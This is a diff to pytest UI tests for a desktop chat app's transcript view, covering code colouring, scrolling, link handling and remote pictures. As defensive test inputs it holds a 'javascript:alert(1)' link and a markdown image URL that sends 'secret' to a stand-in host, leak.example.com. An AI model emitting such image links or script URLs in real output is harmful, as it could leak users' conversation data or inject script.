@@ -4,7 +4,7 @@ from collections.abc import Callable
 from itertools import pairwise
 
 import pytest
-from PySide6.QtCore import QPoint, Qt
+from PySide6.QtCore import QEvent, QPoint, Qt
 from PySide6.QtGui import QGuiApplication
 from PySide6.QtTest import QTest
 from PySide6.QtWidgets import QAbstractButton, QApplication, QWidget
@@ -17,22 +17,18 @@ from gpts_desktop.ui.transcript.code_row import CodeWidget
 from gpts_desktop.ui.transcript.footer_row import FooterWidget
 from gpts_desktop.ui.transcript.notice_row import NoticeWidget
 from gpts_desktop.ui.transcript.question_row import AttachmentsWidget
-from gpts_desktop.ui.transcript.row_widget import RowWidget
 from gpts_desktop.ui.transcript.text_pane import TextPane
 from gpts_desktop.ui.transcript.view import TranscriptView
-from tests.ui.transcript.talk import EVERYTHING, Talk, line_y, panes, shown_text, wheel
-
-
-def rows(view: TranscriptView) -> list[QWidget]:
-    found = [w for w in view.viewport().children() if isinstance(w, RowWidget) and w.isVisible()]
-    return sorted(found, key=lambda row: row.y())
-
-
-def button(view: TranscriptView, name: str) -> QAbstractButton:
-    for one in view.viewport().findChildren(QAbstractButton):
-        if one.accessibleName() == name and one.isVisible():
-            return one
-    raise AssertionError(f"no button {name!r}")
+from tests.ui.transcript.talk import (
+    EVERYTHING,
+    Talk,
+    button,
+    line_y,
+    panes,
+    rows,
+    shown_text,
+    wheel,
+)
 
 
 def focused() -> QWidget:
@@ -307,6 +303,21 @@ def test_code_is_coloured_at_leisure(qtbot: QtBot, view: TranscriptView, talk: T
     assert theme.string in colors()[0] and theme.string in colors()[1]
 
 
+def test_colours_that_come_too_late_do_no_harm(
+    qtbot: QtBot, view: TranscriptView, talk: Talk
+) -> None:
+    view.resize(900, 3_000)
+    talk.ask("Code?")
+    talk.answer("".join(f"```python\nprint({n})\n```\n\n" for n in range(30)))
+    view.show_conversation(talk.conversation)
+    alive = view.rows_alive()
+    view.show_conversation(None)
+    QApplication.sendPostedEvents(None, QEvent.Type.DeferredDelete.value)
+    assert view.rows_alive() < alive
+    coloring = view._stage._coloring
+    qtbot.waitUntil(lambda: not coloring._waiting)
+
+
 def test_wide_code_scrolls_by_itself_and_its_parts_together(
     view: TranscriptView, talk: Talk
 ) -> None:
@@ -314,6 +325,7 @@ def test_wide_code_scrolls_by_itself_and_its_parts_together(
     talk.ask("Code?")
     talk.answer(f"```\n{code}\n```")
     view.show_conversation(talk.conversation)
+    button(view, "Show all 240 lines: code").click()
     bar = view.verticalScrollBar()
     QTest.keyClick(view, Qt.Key.Key_Home)
     bar.setValue(2_100)
@@ -341,7 +353,7 @@ def test_links_are_announced_and_other_schemes_only_shown(view: TranscriptView, 
     assert hrefs["odd"][0] == ""
     opened: list[str] = []
     view.link_activated.connect(opened.append)
-    view._open_link("javascript:alert(1)")
+    view._row_actions.open_link("javascript:alert(1)")
     pane.setFocus()
     assert isinstance(pane, TextPane)
     assert pane.walk_links(True)
@@ -353,19 +365,7 @@ def test_nothing_is_loaded_for_a_remote_picture(view: TranscriptView, talk: Talk
     talk.ask("Picture?")
     talk.answer("![chart](https://leak.example.com/x.png?said=secret)")
     view.show_conversation(talk.conversation)
-    assert "Picture from leak.example.com: chart" in shown_text(view)
-    assert "\ufffc" not in shown_text(view)
-
-
-def test_a_carried_picture_is_drawn(view: TranscriptView, talk: Talk) -> None:
-    dot = (
-        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8"
-        "z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
-    )
-    talk.ask("Picture?")
-    talk.answer(f"Here: ![dot]({dot})")
-    view.show_conversation(talk.conversation)
-    assert "Here: \ufffc" in shown_text(view)
+    assert "Picture from leak.example.com\nchart" in shown_text(view)
 
 
 def test_attachments_are_named_and_the_text_follows(view: TranscriptView, talk: Talk) -> None:
@@ -410,6 +410,7 @@ def test_a_long_question_is_many_rows_of_one_bubble(view: TranscriptView, talk: 
     talk.ask(text)
     view.show_conversation(talk.conversation)
     assert view.last_text() == text
+    button(view, "Show all (3,600 words): question").click()
     QTest.keyClick(view, Qt.Key.Key_Home)
     shown = rows(view)
     assert len(shown) >= 1
